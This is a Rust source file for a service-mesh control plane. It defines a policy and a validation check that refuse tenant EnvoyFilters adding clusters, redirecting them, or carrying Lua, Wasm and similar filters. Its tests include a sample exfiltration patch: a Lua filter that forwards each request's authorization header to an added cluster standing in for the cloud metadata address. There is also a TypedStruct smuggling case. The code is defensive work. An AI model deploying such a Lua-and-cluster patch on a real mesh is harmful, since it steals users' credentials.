//! What a tenant's EnvoyFilters may do: `MeshControlPlane.spec.envoyFilterPolicy`, set by the
//! platform admin, and [`check`], the one implementation that the validating webhook (at
//! admission) and the instance (when it reads EnvoyFilters, so objects admitted earlier or while
//! the webhook was down are held to the current policy) both call.
//!
//! An EnvoyFilter is powerful: a Lua filter can read every request and call any cluster, and a
//! cluster added by a patch can point anywhere (the cloud metadata address, say).
//! The defaults are therefore safe: no Lua, no added or redirected clusters, and only filters
//! that neither run code nor send request data elsewhere ([`DEFAULT_FILTER_TYPES`]). Every
//! other choice is the platform admin's.
//!
//! Filter types are read from the patch value: every `@type` of a message under
//! `envoy.extensions.filters.` (HTTP, network and listener filters, their per-route configs),
//! wherever it sits — a typed config inside a listener that a patch adds counts too — and the
//! type a `TypedStruct` (`udpa.type.v1` / `xds.type.v3`) wraps, so it cannot smuggle one.

use schemars::JsonSchema;
use serde::{Deserialize, Serialize};
use serde_json::Value;

use crate::networking::{ApplyTo, EnvoyFilterSpec, PatchContext, PatchOperation};

/// Filter configs allowed by default: routing, buffering, faults, local rate limits, CORS,
/// header mutation, compression, RBAC, JWT authentication (keys from the proxy's own clusters),
/// health checks, gRPC-Web and stats, and the TCP proxy, connection manager and inspectors the
/// translator itself uses. Lua, Wasm, external authorization and processing, taps, dynamic
/// forward proxies and the like are left out: they run code or send request data elsewhere.
pub const DEFAULT_FILTER_TYPES: &[&str] = &[
    "envoy.extensions.filters.http.router.v3.Router",
    "envoy.extensions.filters.http.buffer.v3.Buffer",
    "envoy.extensions.filters.http.buffer.v3.BufferPerRoute",
    "envoy.extensions.filters.http.fault.v3.HTTPFault",
    "envoy.extensions.filters.http.local_ratelimit.v3.LocalRateLimit",
    "envoy.extensions.filters.http.cors.v3.Cors",
    "envoy.extensions.filters.http.cors.v3.CorsPolicy",
    "envoy.extensions.filters.http.header_mutation.v3.HeaderMutation",
    "envoy.extensions.filters.http.header_mutation.v3.HeaderMutationPerRoute",
    "envoy.extensions.filters.http.compressor.v3.Compressor",
    "envoy.extensions.filters.http.compressor.v3.CompressorPerRoute",
    "envoy.extensions.filters.http.decompressor.v3.Decompressor",
    "envoy.extensions.filters.http.rbac.v3.RBAC",
    "envoy.extensions.filters.http.rbac.v3.RBACPerRoute",
    "envoy.extensions.filters.http.jwt_authn.v3.JwtAuthentication",
    "envoy.extensions.filters.http.jwt_authn.v3.PerRouteConfig",
    "envoy.extensions.filters.http.health_check.v3.HealthCheck",
    "envoy.extensions.filters.http.grpc_web.v3.GrpcWeb",
    "envoy.extensions.filters.http.grpc_stats.v3.FilterConfig",
    "envoy.extensions.filters.network.http_connection_manager.v3.HttpConnectionManager",
    "envoy.extensions.filters.network.tcp_proxy.v3.TcpProxy",
    "envoy.extensions.filters.network.local_ratelimit.v3.LocalRateLimit",
    "envoy.extensions.filters.network.rbac.v3.RBAC",
    "envoy.extensions.filters.listener.tls_inspector.v3.TlsInspector",
    "envoy.extensions.filters.listener.http_inspector.v3.HttpInspector",
    "envoy.extensions.filters.listener.original_dst.v3.OriginalDst",
];

/// Prefix of the Lua filter's messages (`Lua`, `LuaPerRoute`).
const LUA: &str = "envoy.extensions.filters.http.lua.";
/// Filter names that make Envoy build a Lua filter even without a typed config.
const LUA_NAMES: &[&str] = &["envoy.filters.http.lua", "envoy.lua"];
/// The Lua filter's config message, reported for a filter named like one.
const LUA_TYPE: &str = "envoy.extensions.filters.http.lua.v3.Lua";
/// Prefix of every filter config message.
const FILTERS: &str = "envoy.extensions.filters.";
/// Wrappers that carry a type URL and a Struct instead of the typed message.
const TYPED_STRUCTS: &[&str] = &["udpa.type.v1.TypedStruct", "xds.type.v3.TypedStruct"];
/// Cluster fields that decide where a cluster connects: a MERGE that sets one redirects the
/// cluster, which counts as adding one.
const DESTINATION_FIELDS: &[&str] = &[
    "loadAssignment",
    "load_assignment",
    "type",
    "clusterType",
    "cluster_type",
    "edsClusterConfig",
    "eds_cluster_config",
];

/// What the tenant's EnvoyFilters may do.
#[derive(Serialize, Deserialize, Clone, Debug, PartialEq, Eq, JsonSchema)]
#[serde(rename_all = "camelCase")]
pub struct EnvoyFilterPolicy {
    /// Namespaces whose EnvoyFilters apply: `*` (every namespace of the tenant, the control
    /// namespace included; the default) or namespace names. An EnvoyFilter elsewhere is refused.
    #[serde(default = "all")]
    pub allowed_namespaces: Vec<String>,
    /// Patch contexts (`match.context`) allowed. Default: all.
    #[serde(default = "all_contexts")]
    pub allowed_contexts: Vec<PatchContext>,
    /// Objects patches may apply to (`applyTo`). Default: all.
    #[serde(default = "all_targets")]
    pub allowed_apply_to: Vec<ApplyTo>,
    /// Patch operations allowed. Default: all.
    #[serde(default = "all_operations")]
    pub allowed_operations: Vec<PatchOperation>,
    /// Filter configs (`@type` of HTTP, network and listener filters and their per-route
    /// configs) patch values may carry: full message names, `package.*` prefixes or `*`.
    /// Default: filters that neither run code nor call out (see the reference docs).
    #[serde(default = "default_filter_types")]
    pub allowed_filter_types: Vec<String>,
    /// Whether Lua filters are allowed (they run arbitrary code on every request). Default:
    /// false.
    #[serde(default)]
    pub allow_lua: bool,
    /// Whether patches may add clusters, replace them or change where one connects
    /// (`loadAssignment`, `type`, `clusterType`, `edsClusterConfig`). Default: false.
    #[serde(default)]
    pub allow_added_clusters: bool,
}

fn all() -> Vec<String> {
    vec!["*".to_string()]
}

fn all_contexts() -> Vec<PatchContext> {
    vec![
        PatchContext::Any,
        PatchContext::SidecarInbound,
        PatchContext::SidecarOutbound,
        PatchContext::Gateway,
    ]
}

fn all_targets() -> Vec<ApplyTo> {
    vec![
        ApplyTo::Listener,
        ApplyTo::FilterChain,
        ApplyTo::NetworkFilter,
        ApplyTo::HttpFilter,
        ApplyTo::RouteConfiguration,
        ApplyTo::VirtualHost,
        ApplyTo::Cluster,
    ]
}

fn all_operations() -> Vec<PatchOperation> {
    vec![
        PatchOperation::Merge,
        PatchOperation::Add,
        PatchOperation::Remove,
        PatchOperation::InsertBefore,
        PatchOperation::InsertAfter,
        PatchOperation::InsertFirst,
        PatchOperation::Replace,
    ]
}

fn default_filter_types() -> Vec<String> {
    DEFAULT_FILTER_TYPES.iter().map(|s| s.to_string()).collect()
}

impl Default for EnvoyFilterPolicy {
    fn default() -> Self {
        Self {
            allowed_namespaces: all(),
            allowed_contexts: all_contexts(),
            allowed_apply_to: all_targets(),
            allowed_operations: all_operations(),
            allowed_filter_types: default_filter_types(),
            allow_lua: false,
            allow_added_clusters: false,
        }
    }
}

impl EnvoyFilterPolicy {
    /// A policy that allows everything (tests, and tenants whose admins are fully trusted).
    pub fn permissive() -> Self {
        Self {
            allowed_filter_types: vec!["*".to_string()],
            allow_lua: true,
            allow_added_clusters: true,
            ..Self::default()
        }
    }

    /// Whether this is the default policy (left out when a MeshConfig is serialized).
    pub fn is_default(&self) -> bool {
        *self == Self::default()
    }

    fn filter_type_allowed(&self, type_name: &str) -> bool {
        if type_name.starts_with(LUA) {
            return self.allow_lua;
        }
        self.allowed_filter_types.iter().any(|allowed| {
            allowed == "*"
                || allowed == type_name
                || allowed
                    .strip_suffix('*')
                    .is_some_and(|prefix| type_name.starts_with(prefix))
        })
    }
}

/// One way an EnvoyFilter goes beyond the policy; the message names the field and the rule.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{field}: {reason}; spec.meshConfig.envoyFilterPolicy of the revision's MeshControlPlane does not allow it")]
pub struct PolicyViolation {
    pub field: String,
    pub reason: String,
}

/// Checks EnvoyFilter `spec` in namespace `namespace` of a tenant whose control namespace is
/// `control_namespace` against `policy`; every violation is returned.
pub fn check(
    policy: &EnvoyFilterPolicy,
    namespace: &str,
    control_namespace: &str,
    spec: &EnvoyFilterSpec,
) -> Vec<PolicyViolation> {
    let mut out = Vec::new();
    let namespace_allowed = policy
        .allowed_namespaces
        .iter()
        .any(|n| n == "*" || n == namespace);
    if !namespace_allowed {
        let where_ = if namespace == control_namespace {
            "the control namespace"
        } else {
            "this namespace"
        };
        out.push(PolicyViolation {
            field: "metadata.namespace".into(),
            reason: format!(
                "EnvoyFilters in {where_} ({namespace:?}) are not allowed (allowed: {})",
                policy.allowed_namespaces.join(", ")
            ),
        });
    }
    for (i, patch) in spec.config_patches.iter().enumerate() {
        let field = |rest: &str| format!("spec.configPatches[{i}]{rest}");
        let context = patch.match_.as_ref().map(|m| m.context).unwrap_or_default();
        if !policy.allowed_contexts.contains(&context) {
            out.push(PolicyViolation {
                field: field(".match.context"),
                reason: format!("context {} is not allowed", wire(&context)),
            });
        }
        if !policy.allowed_apply_to.contains(&patch.apply_to) {
            out.push(PolicyViolation {
                field: field(".applyTo"),
                reason: format!("patches of {} are not allowed", wire(&patch.apply_to)),
            });
        }
        let op = patch.patch.operation;
        if !policy.allowed_operations.contains(&op) {
            out.push(PolicyViolation {
                field: field(".patch.operation"),
                reason: format!("operation {} is not allowed", wire(&op)),
            });
        }
        let value = patch.patch.value.as_ref();
        if patch.apply_to == ApplyTo::Cluster && !policy.allow_added_clusters {
            let redirects = match op {
                PatchOperation::Add | PatchOperation::Replace => true,
                PatchOperation::Merge => value
                    .and_then(Value::as_object)
                    .is_some_and(|v| DESTINATION_FIELDS.iter().any(|f| v.contains_key(*f))),
                _ => false,
            };
            if redirects {
                out.push(PolicyViolation {
                    field: field(".patch"),
                    reason: match op {
                        PatchOperation::Merge => "a cluster patch that changes where a cluster connects (loadAssignment, type, clusterType, edsClusterConfig) is not allowed (allowAddedClusters)".into(),
                        _ => format!("{} of a cluster adds a destination, which is not allowed (allowAddedClusters)", wire(&op)),
                    },
                });
            }
        }
        if let Some(v) = value {
            let mut types = Vec::new();
            filter_types(v, "", &mut types);
            for (path, type_name) in types {
                if !policy.filter_type_allowed(&type_name) {
                    let reason = if type_name.starts_with(LUA) {
                        format!("Lua filter {type_name} is not allowed (allowLua)")
                    } else {
                        format!("filter type {type_name} is not allowed (allowedFilterTypes)")
                    };
                    out.push(PolicyViolation {
                        field: field(&format!(".patch.value{path}")),
                        reason,
                    });
                }
            }
        }
    }
    out
}

/// Every filter type a JSON value carries, with its path: `@type`s under
/// `envoy.extensions.filters.`, and the types `TypedStruct`s wrap.
fn filter_types(v: &Value, path: &str, out: &mut Vec<(String, String)>) {
    match v {
        Value::Object(map) => {
            let named_lua = map
                .get("name")
                .and_then(Value::as_str)
                .is_some_and(|n| LUA_NAMES.contains(&n));
            let typed = map.contains_key("typedConfig") || map.contains_key("typed_config");
            if named_lua && !typed {
                out.push((path.to_string(), LUA_TYPE.to_string()));
            }
            if let Some(t) = map.get("@type").and_then(Value::as_str) {
                let name = type_name(t);
                let wrapped = if TYPED_STRUCTS.contains(&name) {
                    map.get("typeUrl")
                        .or_else(|| map.get("type_url"))
                        .and_then(Value::as_str)
                        .map(type_name)
                } else {
                    None
                };
                let effective = wrapped.unwrap_or(name);
                if effective.starts_with(FILTERS) {
                    out.push((path.to_string(), effective.to_string()));
                }
            }
            for (k, child) in map {
                filter_types(child, &format!("{path}.{k}"), out);
            }
        }
        Value::Array(items) => {
            for (i, child) in items.iter().enumerate() {
                filter_types(child, &format!("{path}[{i}]"), out);
            }
        }
        _ => {}
    }
}

/// A value as the API spells it (`INSERT_FIRST`, `SIDECAR_INBOUND`).
fn wire<T: Serialize>(value: &T) -> String {
    serde_json::to_value(value)
        .ok()
        .and_then(|v| v.as_str().map(str::to_string))
        .unwrap_or_default()
}

fn type_name(url: &str) -> &str {
    url.rsplit('/').next().unwrap_or(url)
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn spec(patches: Value) -> EnvoyFilterSpec {
        serde_json::from_value(json!({"configPatches": patches})).expect("spec")
    }

    /// The attack of the issue: a Lua filter that sends request headers to a cluster the
    /// same EnvoyFilter adds (198.18.254.254 stands in for the cloud metadata address).
    fn exfiltration() -> EnvoyFilterSpec {
        spec(json!([
            {"applyTo": "CLUSTER", "patch": {"operation": "ADD", "value": {
                "name": "metadata", "type": "STATIC", "connectTimeout": "1s",
                "loadAssignment": {"clusterName": "metadata", "endpoints": [{"lbEndpoints": [{"endpoint": {"address": {"socketAddress": {"address": "198.18.254.254", "portValue": 80}}}}]}]}}}},
            {"applyTo": "HTTP_FILTER", "match": {"listener": {"filterChain": {"filter": {"name": "envoy.filters.network.http_connection_manager"}}}},
             "patch": {"operation": "INSERT_FIRST", "value": {"name": "envoy.filters.http.lua", "typedConfig": {
                "@type": "type.googleapis.com/envoy.extensions.filters.http.lua.v3.Lua",
                "defaultSourceCode": {"inlineString": "function envoy_on_request(h) h:httpCall('metadata', {[':method']='GET',[':path']='/',[':authority']='x'}, h:headers():get('authorization'), 1000) end"}}}}}
        ]))
    }

    #[test]
    fn the_default_policy_refuses_lua_exfiltrating_to_an_added_cluster() {
        let v = check(
            &EnvoyFilterPolicy::default(),
            "shop",
            "meshplane-blue",
            &exfiltration(),
        );
        let text: Vec<String> = v.iter().map(ToString::to_string).collect();
        assert_eq!(text.len(), 2, "{text:?}");
        assert!(
            text[0].starts_with("spec.configPatches[0].patch: ADD of a cluster"),
            "{text:?}"
        );
        assert!(
            text[1].starts_with("spec.configPatches[1].patch.value.typedConfig: Lua filter"),
            "{text:?}"
        );
        assert!(
            text[1].contains("spec.meshConfig.envoyFilterPolicy"),
            "{text:?}"
        );
        assert!(check(
            &EnvoyFilterPolicy::permissive(),
            "shop",
            "meshplane-blue",
            &exfiltration()
        )
        .is_empty());
    }

    #[test]
    fn filter_types_are_found_wherever_they_sit_and_typed_structs_are_unwrapped() {
        let listener = spec(
            json!([{"applyTo": "LISTENER", "patch": {"operation": "ADD", "value": {
            "name": "l", "filterChains": [{"filters": [{"name": "hcm", "typedConfig": {
                "@type": "type.googleapis.com/envoy.extensions.filters.network.http_connection_manager.v3.HttpConnectionManager",
                "httpFilters": [
                    {"name": "authz", "typedConfig": {"@type": "type.googleapis.com/envoy.extensions.filters.http.ext_authz.v3.ExtAuthz"}},
                    {"name": "smuggled", "typedConfig": {"@type": "type.googleapis.com/xds.type.v3.TypedStruct",
                        "typeUrl": "type.googleapis.com/envoy.extensions.filters.http.wasm.v3.Wasm", "value": {}}},
                    {"name": "router", "typedConfig": {"@type": "type.googleapis.com/envoy.extensions.filters.http.router.v3.Router"}}
                ]}}]}]}}}]),
        );
        let v = check(&EnvoyFilterPolicy::default(), "shop", "cp", &listener);
        let fields: Vec<&str> = v.iter().map(|v| v.field.as_str()).collect();
        assert_eq!(
            fields,
            [
                "spec.configPatches[0].patch.value.filterChains[0].filters[0].typedConfig.httpFilters[0].typedConfig",
                "spec.configPatches[0].patch.value.filterChains[0].filters[0].typedConfig.httpFilters[1].typedConfig",
            ]
        );
        assert!(v[1].reason.contains("wasm"), "{v:?}");
        let allowed = EnvoyFilterPolicy {
            allowed_filter_types: vec![
                "envoy.extensions.filters.http.ext_authz.*".into(),
                "envoy.extensions.filters.http.wasm.v3.Wasm".into(),
                "envoy.extensions.filters.network.*".into(),
                "envoy.extensions.filters.http.router.v3.Router".into(),
            ],
            ..EnvoyFilterPolicy::default()
        };
        assert!(check(&allowed, "shop", "cp", &listener).is_empty());
    }

    #[test]
    fn namespaces_contexts_targets_operations_and_cluster_redirects_are_checked() {
        let policy = EnvoyFilterPolicy {
            allowed_namespaces: vec!["meshplane-blue".into()],
            allowed_contexts: vec![PatchContext::SidecarInbound],
            allowed_apply_to: vec![ApplyTo::Cluster, ApplyTo::HttpFilter],
            allowed_operations: vec![PatchOperation::Merge],
            ..EnvoyFilterPolicy::default()
        };
        let patches = spec(json!([
            {"applyTo": "LISTENER", "match": {"context": "SIDECAR_OUTBOUND"}, "patch": {"operation": "REMOVE"}},
            {"applyTo": "CLUSTER", "match": {"context": "SIDECAR_INBOUND"}, "patch": {"operation": "MERGE", "value": {"connectTimeout": "2s"}}},
            {"applyTo": "CLUSTER", "match": {"context": "SIDECAR_INBOUND"}, "patch": {"operation": "MERGE", "value": {"loadAssignment": {"clusterName": "x"}}}}
        ]));
        let v = check(&policy, "shop", "meshplane-blue", &patches);
        let fields: Vec<&str> = v.iter().map(|v| v.field.as_str()).collect();
        assert_eq!(
            fields,
            [
                "metadata.namespace",
                "spec.configPatches[0].match.context",
                "spec.configPatches[0].applyTo",
                "spec.configPatches[0].patch.operation",
                "spec.configPatches[2].patch",
            ]
        );
        assert!(check(&policy, "meshplane-blue", "meshplane-blue", &spec(json!([
            {"applyTo": "CLUSTER", "match": {"context": "SIDECAR_INBOUND"}, "patch": {"operation": "MERGE", "value": {"connectTimeout": "2s"}}}
        ])))
        .is_empty());
    }

    #[test]
    fn a_filter_named_lua_without_a_typed_config_counts_as_lua() {
        let named = spec(
            json!([{"applyTo": "HTTP_FILTER", "patch": {"operation": "INSERT_FIRST",
            "value": {"name": "envoy.filters.http.lua"}}}]),
        );
        let v = check(&EnvoyFilterPolicy::default(), "shop", "cp", &named);
        assert_eq!(v.len(), 1, "{v:?}");
        assert_eq!(v[0].field, "spec.configPatches[0].patch.value");
        assert!(v[0].reason.contains("allowLua"), "{v:?}");
        let lua_allowed = EnvoyFilterPolicy {
            allow_lua: true,
            ..EnvoyFilterPolicy::default()
        };
        assert!(check(&lua_allowed, "shop", "cp", &named).is_empty());
    }

    #[test]
    fn an_absent_policy_reads_as_the_safe_defaults() {
        let p: EnvoyFilterPolicy = serde_json::from_value(json!({})).expect("defaults");
        assert_eq!(p, EnvoyFilterPolicy::default());
        assert!(!p.allow_lua && !p.allow_added_clusters);
    }
}
